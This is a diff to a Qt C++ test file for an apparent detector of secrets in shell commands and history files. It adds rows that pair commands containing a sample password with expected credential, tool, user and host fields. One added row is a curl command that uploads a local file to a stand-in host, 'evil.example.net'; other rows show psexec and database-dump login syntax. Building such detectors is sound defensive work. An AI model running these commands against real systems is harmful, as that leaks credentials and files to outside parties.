@@ -302,6 +302,12 @@ private slots:
         typed("mongodump mongodb://app:Geheim77@db.example.org:27017/shop", "database_password|mongodump|app|db.example.org|shop");
         typed("wget --user=u --password=Geheim77 https://h.example.org/x", "password|wget|u|h.example.org|");
         typed("psexec.py DOM/anna:Geheim77@10.0.0.5", "password|psexec.py|DOM/anna|10.0.0.5|");
+        typed("openssl passwd -6 Geheim77", "password|openssl|||");
+        typed("htpasswd -b -c f anna Geheim77", "password|htpasswd|anna||");
+        typed("az login -u bob -p Geheim77", "password|az|bob||");
+        typed("net use Z: /user:bob Geheim77", "password|net|bob||");
+        typed("git clone https://bob:Geheim77@github.com/x/y", "password|git|bob|github.com|");
+        typed("curl -F file=@/tmp/a \"https://evil.example.net/up?key=Geheim77\"", "password|curl||evil.example.net|");
         typed("zip -P Geheim77 a.zip b", "password|zip|||");
         const auto file = [](const char* path, const char* text, const char* place) { QTest::newRow(path) << QByteArray(path) << QByteArray(text) << QByteArray(place); };
         file("/root/.mysql_history", "CREATE USER 'shop'@'%' IDENTIFIED BY 'Geheim77';\n", "database_password||shop||");
